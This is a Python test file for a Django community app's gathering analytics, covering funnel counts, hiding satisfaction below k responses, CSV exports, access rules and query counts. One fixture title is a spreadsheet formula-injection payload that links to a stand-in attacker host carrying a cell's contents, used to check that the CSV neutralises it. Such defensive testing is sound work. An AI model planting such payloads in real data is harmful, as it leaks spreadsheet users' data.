"""How the community's gatherings went (events/selectors/analytics.py,
events/views/analytics.py, docs/analytics.md): each figure on a crafted
community, the k rule (no satisfaction below k reaches the page, the CSV or
a month's figure), the door, the CSV's neutralised cells, and the query
counts at 3 and 100 gatherings."""

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse

from community.models import Membership, MembershipRole, Sanction, SanctionKind
from events.models import (
    Application,
    ApplicationStatus,
    Gathering,
    GatheringStatus,
    Survey,
    SurveyParticipation,
)
from events.selectors.analytics import (
    SatisfactionState,
    community_funnels,
    community_months,
)
from events.services.surveys import response_submit
from tests.events.factories import (
    advance,
    gathering_held,
    member_joined,
    members_joined,
    organiser_of,
    survey_answers,
)
from tests.factories import client_sign_in, community_create, member_create

pytestmark = pytest.mark.django_db

SEOUL = ZoneInfo("Asia/Seoul")
A = ApplicationStatus


def seoul(year: int, month: int, day: int) -> datetime:
    return datetime(year, month, day, 19, tzinfo=SEOUL)


def crafted(community, organiser, *, title, starts_at, status) -> Gathering:
    """A gathering written as it stands after its lifecycle (its rows are
    what the analytics read; the services that move one there are tested
    elsewhere)."""
    return Gathering.objects.create(
        community=community,
        title=title,
        starts_at=starts_at,
        ends_at=starts_at + timedelta(hours=2),
        applications_open_at=starts_at - timedelta(days=6),
        applications_close_at=starts_at - timedelta(days=4),
        capacity=10,
        status=status,
        created_by=organiser,
    )


def applications(gathering, rows) -> None:
    """``rows``: (member, status, attended)."""
    Application.objects.bulk_create(
        Application(gathering=gathering, member=m, status=s, attended=a)
        for m, s, a in rows
    )


def survey(gathering, *, k, count, average, answered) -> Survey:
    closed = count is not None
    made = Survey.objects.create(
        gathering=gathering,
        min_responses=k,
        opens_at=gathering.ends_at,
        closes_at=gathering.ends_at + timedelta(days=7),
        locked=bool(answered),
        response_count=count if closed else None,
        satisfaction_average=average,
    )
    SurveyParticipation.objects.bulk_create(
        SurveyParticipation(survey=made, member=m) for m in answered
    )
    return made


class World:
    pass


@pytest.fixture
def world():
    """One community, its gatherings:

    - G1, 5 October, archived: a, b, g attended; c a no-show; d declined its
      offer; e not selected; f withdrew. Survey closed at k = 3 with 3
      responses, average 4.0 (shown).
    - G2, 20 October, survey closed: a (returning), c (a no-show before, so
      first time) and h (nothing recorded: an attendee). Survey closed at
      k = 5 with 2 responses; an average of 1.7 is stored as a survey closed
      before the below-k rule kept one: hidden, and never read.
    - G3, 3 November, survey open: b (returning), one answer so far.
    - A cancelled gathering and an open one (not ended): left out.
    - In another community, earlier: x attended; x in G3 is first time.
    """
    w = World()
    w.community = community_create(name="분석 커뮤니티", slug="analytics")
    w.moderator = organiser_of(w.community)
    names = "abcdefghx"
    w.m = {n: member_joined(w.community) for n in names}
    m = w.m
    w.g1 = crafted(
        w.community,
        w.moderator,
        title='=HYPERLINK("https://evil.example/?"&A1,"클릭")',
        starts_at=seoul(2026, 10, 5),
        status=GatheringStatus.ARCHIVED,
    )
    applications(
        w.g1,
        [
            (m["a"], A.CONFIRMED, True),
            (m["b"], A.CONFIRMED, True),
            (m["g"], A.CONFIRMED, True),
            (m["c"], A.CONFIRMED, False),
            (m["d"], A.DECLINED, None),
            (m["e"], A.NOT_SELECTED, None),
            (m["f"], A.WITHDRAWN, None),
        ],
    )
    survey(w.g1, k=3, count=3, average=4.0, answered=[m["a"], m["b"], m["g"]])
    w.g2 = crafted(
        w.community,
        w.moderator,
        title="10월 두 번째 모임",
        starts_at=seoul(2026, 10, 20),
        status=GatheringStatus.SURVEY_CLOSED,
    )
    applications(
        w.g2,
        [
            (m["a"], A.CONFIRMED, True),
            (m["c"], A.CONFIRMED, True),
            (m["h"], A.CONFIRMED, None),
        ],
    )
    survey(w.g2, k=5, count=2, average=1.7, answered=[m["a"], m["c"]])
    w.g3 = crafted(
        w.community,
        w.moderator,
        title="11월 모임",
        starts_at=seoul(2026, 11, 3),
        status=GatheringStatus.SURVEY_OPEN,
    )
    applications(w.g3, [(m["b"], A.CONFIRMED, True), (m["x"], A.CONFIRMED, True)])
    survey(w.g3, k=5, count=None, average=None, answered=[m["b"]])
    cancelled = crafted(
        w.community,
        w.moderator,
        title="취소된 모임",
        starts_at=seoul(2026, 10, 1),
        status=GatheringStatus.CANCELLED,
    )
    applications(cancelled, [(m["h"], A.CANCELLED, None)])
    crafted(
        w.community,
        w.moderator,
        title="열린 모임",
        starts_at=seoul(2026, 12, 30),
        status=GatheringStatus.OPEN,
    )
    other = community_create()
    elsewhere = crafted(
        other,
        w.moderator,
        title="다른 커뮤니티 모임",
        starts_at=seoul(2026, 9, 1),
        status=GatheringStatus.ARCHIVED,
    )
    applications(elsewhere, [(m["x"], A.CONFIRMED, True)])
    return w


def by_pk(w):
    return {f.pk: f for f in community_funnels(community=w.community)}


# --- The figures --------------------------------------------------------------


def test_only_gatherings_that_ended_are_counted_oldest_first(world):
    funnels = community_funnels(community=world.community)
    assert [f.pk for f in funnels] == [world.g1.pk, world.g2.pk, world.g3.pk]


def test_the_funnel_counts_each_step(world):
    g1 = by_pk(world)[world.g1.pk]
    assert (g1.applied, g1.won, g1.confirmed, g1.attended, g1.answered) == (
        7,
        5,  # four confirmed and one who declined the offer
        4,
        3,
        3,
    )
    assert [s.count for s in g1.steps] == [7, 5, 4, 3, 3]
    assert g1.steps[0].rate is None
    assert g1.steps[2].rate == pytest.approx(4 / 5)
    assert g1.steps[3].share == pytest.approx(3 / 7)


def test_the_no_show_rate_is_of_the_confirmed_seats(world):
    funnels = by_pk(world)
    assert funnels[world.g1.pk].no_shows == 1
    assert funnels[world.g1.pk].no_show_rate == pytest.approx(1 / 4)
    # Nothing recorded counts as attended, as the survey's invitations do.
    assert funnels[world.g2.pk].no_shows == 0


def test_returning_attendees_attended_an_earlier_gathering_of_the_community(world):
    funnels = by_pk(world)
    assert (funnels[world.g1.pk].first_time, funnels[world.g1.pk].returning) == (3, 0)
    # a came to G1; c was a no-show there; h's cancelled gathering is none.
    assert (funnels[world.g2.pk].first_time, funnels[world.g2.pk].returning) == (2, 1)
    # b came to G1; x only to another community's gathering.
    assert (funnels[world.g3.pk].first_time, funnels[world.g3.pk].returning) == (1, 1)


def test_satisfaction_is_shown_from_k_after_the_close(world):
    funnels = by_pk(world)
    assert funnels[world.g1.pk].state == SatisfactionState.SHOWN
    assert funnels[world.g1.pk].satisfaction == pytest.approx(4.0)
    assert funnels[world.g3.pk].state == SatisfactionState.NOT_CLOSED
    assert funnels[world.g3.pk].satisfaction is None


def test_below_k_the_average_is_not_even_read(world):
    g2 = by_pk(world)[world.g2.pk]
    assert g2.state == SatisfactionState.BELOW_K
    assert g2.satisfaction is None
    assert g2.responses == 2 and g2.k == 5


def test_a_month_adds_up_its_gatherings(world):
    october, november = community_months(community_funnels(community=world.community))
    assert october.month.isoformat() == "2026-10-01"
    assert (october.gatherings, october.attended, october.no_shows) == (2, 6, 1)
    assert october.no_show_rate == pytest.approx(1 / 7)
    assert (november.gatherings, november.attended) == (1, 2)


def test_a_month_averages_only_the_gatherings_that_met_k(world):
    october, november = community_months(community_funnels(community=world.community))
    # G1's 4.0 alone: G2's stored 1.7 would have made it (3*4 + 2*1.7)/5.
    assert october.satisfaction == pytest.approx(4.0)
    assert (october.rated, october.unrated, october.rated_responses) == (1, 1, 3)
    assert november.satisfaction is None


def test_a_month_is_weighted_by_the_responses_shown():
    community = community_create()
    organiser = organiser_of(community)
    for day, count, average in ((2, 3, 5.0), (9, 5, 3.0)):
        g = crafted(
            community,
            organiser,
            title=f"{day}",
            starts_at=seoul(2026, 6, day),
            status=GatheringStatus.ARCHIVED,
        )
        survey(g, k=3, count=count, average=average, answered=[])
    (june,) = community_months(community_funnels(community=community))
    assert june.satisfaction == pytest.approx((3 * 5 + 5 * 3) / 8)


def test_a_survey_closed_below_k_by_the_services_shows_only_its_count():
    gathering, members = gathering_held(attendees=6)
    opened = Survey.objects.get(gathering=gathering)
    for member, rating in zip(members[:2], (1, 2), strict=True):
        response_submit(
            member=member,
            gathering=gathering,
            answers=survey_answers(rating),
            now=opened.opens_at + timedelta(hours=1),
        )
    advance(gathering, opened.closes_at)
    (funnel,) = community_funnels(community=gathering.community)
    assert funnel.state == SatisfactionState.BELOW_K
    assert (funnel.answered, funnel.responses, funnel.satisfaction) == (2, 2, None)


# --- The pages and the CSV ----------------------------------------------------


def moderator_client(client, w):
    return client_sign_in(client, w.moderator)


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else None
    text = (body or response.content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_page_draws_both_charts_and_their_tables(client, world):
    response = moderator_client(client, world).get(
        reverse("community_analytics", args=[world.community.slug])
    )
    assert response.status_code == 200
    body = response.content.decode()
    for chart in ("funnel", "months", "satisfaction"):
        assert f'data-chart="{chart}"' in body
    assert body.count('role="img"') == 3
    assert "<title" in body and 'class="analytics-table' in body
    # The site's language (Korean) for a client with no preference.
    assert "응답이 5명 미만이라 숨겼어요" in body


def test_no_below_k_figure_reaches_the_page_or_either_csv(client, world):
    moderator_client(client, world)
    slug = world.community.slug
    pages = [
        client.get(reverse("community_analytics", args=[slug])),
        client.get(reverse("gathering_analytics", args=[slug, world.g2.pk])),
        client.get(reverse("community_analytics_gatherings_csv", args=[slug])),
        client.get(reverse("community_analytics_months_csv", args=[slug])),
    ]
    for response in pages:
        assert response.status_code == 200
        text = response.content.decode()
        # G2's stored average, and October blended with it ((12 + 3.4) / 5).
        for leak in ("1.7", "1.70", "3.08", "3.1"):
            assert leak not in text


def test_the_gathering_csv_has_a_row_per_gathering(client, world):
    response = moderator_client(client, world).get(
        reverse("community_analytics_gatherings_csv", args=[world.community.slug])
    )
    assert response["Content-Type"].startswith("text/csv")
    header, *rows = csv_rows(response)
    assert len(header) == 14 and len(rows) == 3
    g1, g2, g3 = rows
    assert g1[1:12] == [
        "2026-10-05", "7", "5", "4", "3", "1", "0.250", "3", "0", "3", "4.00",
    ]  # fmt: skip
    assert g2[11] == "" and g2[13] == "응답이 5명 미만이라 숨겼어요"
    assert g3[13] == "설문이 아직 안 끝났어요"


def test_the_month_csv_has_a_row_per_month(client, world):
    response = moderator_client(client, world).get(
        reverse("community_analytics_months_csv", args=[world.community.slug])
    )
    _header, october, november = csv_rows(response)
    assert october == ["2026-10", "2", "10", "7", "6", "1", "0.143", "1", "3", "4.00"]
    assert november[0] == "2026-11" and november[-1] == ""


def test_an_organiser_written_title_is_neutralised_in_the_csv(client, world):
    response = moderator_client(client, world).get(
        reverse("community_analytics_gatherings_csv", args=[world.community.slug])
    )
    _header, g1, *_ = csv_rows(response)
    assert g1[0] == "'" + world.g1.title


def test_the_gathering_page_of_another_community_answers_404(client, world):
    other = crafted(
        community_create(),
        world.moderator,
        title="남의 모임",
        starts_at=seoul(2026, 10, 9),
        status=GatheringStatus.ARCHIVED,
    )
    response = moderator_client(client, world).get(
        reverse("gathering_analytics", args=[world.community.slug, other.pk])
    )
    assert response.status_code == 404


def test_the_gathering_page_shows_its_figures(client, world):
    response = moderator_client(client, world).get(
        reverse("gathering_analytics", args=[world.community.slug, world.g1.pk])
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert 'data-chart="funnel"' in body
    assert "25%" in body and "4.0 / 5" in body


# --- The door -----------------------------------------------------------------


def _as(client, member):
    if member is not None:
        client_sign_in(client, member)
    return client.get(reverse("community_analytics", args=["analytics"]))


def _sanctioned(w, role, kind):
    member = member_create(language="en")
    Membership.objects.create(community=w.community, member=member, role=role)
    Sanction.objects.create(
        community=w.community,
        member=member,
        kind=kind,
        reason="test",
        created_by=w.moderator,
    )
    return member


def test_moderators_and_owners_open_the_page(client, world):
    owner = member_create(language="en")
    Membership.objects.create(
        community=world.community, member=owner, role=MembershipRole.OWNER
    )
    assert _as(client, world.moderator).status_code == 200
    client.logout()
    assert _as(client, owner).status_code == 200


def test_a_muted_moderator_still_reads_it(client, world):
    muted = _sanctioned(world, MembershipRole.MODERATOR, SanctionKind.MUTE)
    assert _as(client, muted).status_code == 200


@pytest.mark.parametrize("kind", ["member", "host", "outsider"])
def test_anyone_who_does_not_moderate_is_refused(client, world, kind):
    if kind == "outsider":
        member = member_create(language="en")
    else:
        member = world.m["a"]
        if kind == "host":
            world.g3.hosts.add(member)
    assert _as(client, member).status_code == 403


def test_a_banned_moderator_is_refused(client, world):
    banned = _sanctioned(world, MembershipRole.MODERATOR, SanctionKind.BAN)
    slug = world.community.slug
    client_sign_in(client, banned)
    for url in (
        reverse("community_analytics", args=[slug]),
        reverse("gathering_analytics", args=[slug, world.g1.pk]),
        reverse("community_analytics_gatherings_csv", args=[slug]),
        reverse("community_analytics_months_csv", args=[slug]),
    ):
        response = client.get(url)
        assert response.status_code == 403, url
        assert "4.0" not in response.content.decode()


def test_a_visitor_is_sent_to_sign_in(client, world):
    response = _as(client, None)
    assert response.status_code == 302
    assert reverse("account_login") in response["Location"]


# --- Query counts ---------------------------------------------------------------


def community_of(size: int):
    """A community with ``size`` gatherings over a year, each with three
    applications, a closed survey and a participation."""
    community = community_create()
    organiser = organiser_of(community)
    members = members_joined(community, 3)
    for i in range(size):
        g = crafted(
            community,
            organiser,
            title=f"모임 {i}",
            starts_at=seoul(2026, 1 + i % 12, 1 + i % 27),
            status=GatheringStatus.ARCHIVED,
        )
        applications(
            g,
            [
                (members[0], A.CONFIRMED, True),
                (members[1], A.CONFIRMED, False),
                (members[2], A.NOT_SELECTED, None),
            ],
        )
        survey(g, k=3, count=3 + i % 2, average=4.0, answered=[members[0]])
    return community, organiser


# Signing in (session, member), the community, the access (membership,
# sanctions), the two analytics queries; a page adds the navigation's count
# of unread notifications, and the follow-up's counts (two queries: the
# round or the community's rounds, then the anonymous outcomes).
QUERIES = {
    "community_analytics": 10,
    "gathering_analytics": 10,
    "community_analytics_gatherings_csv": 7,
    "community_analytics_months_csv": 7,
}


@pytest.mark.parametrize("size", [3, 100])
@pytest.mark.parametrize(
    "name",
    [
        "community_analytics",
        "community_analytics_gatherings_csv",
        "community_analytics_months_csv",
    ],
)
def test_query_count_does_not_grow_with_gatherings(
    client, django_assert_max_num_queries, size, name
):
    community, organiser = community_of(size)
    client_sign_in(client, organiser)
    with django_assert_max_num_queries(QUERIES[name]):
        response = client.get(reverse(name, args=[community.slug]))
    assert response.status_code == 200
    if name == "community_analytics":
        assert response.content.decode().count('id="gathering-') == size


def test_the_gathering_page_query_count(client, django_assert_max_num_queries):
    community, organiser = community_of(100)
    gathering = Gathering.objects.filter(community=community).first()
    client_sign_in(client, organiser)
    with django_assert_max_num_queries(QUERIES["gathering_analytics"]):
        response = client.get(
            reverse("gathering_analytics", args=[community.slug, gathering.pk])
        )
    assert response.status_code == 200
